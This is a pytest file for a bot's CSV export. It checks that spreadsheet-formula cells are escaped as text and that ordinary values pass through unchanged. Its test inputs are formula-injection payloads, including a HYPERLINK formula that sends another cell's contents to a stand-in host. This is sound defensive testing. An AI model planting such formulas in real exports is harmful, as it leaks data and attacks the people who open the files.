"""The shared CSV writer: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from bot.reports.csv_file import csv_bytes


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("//x/"&A3,"a")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1"],
)
def test_a_cell_that_would_run_is_text(cell: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_bytes([[cell]]).decode("utf-8-sig")))
    assert row == ["'" + cell]


def test_plain_cells_and_numbers_are_as_they_were() -> None:
    data = csv_bytes([["alice", "2026-09-03", "O'Neill", -1, 2.5, ""]]).decode("utf-8-sig")
    assert data == "alice,2026-09-03,O'Neill,-1,2.5,\r\n"
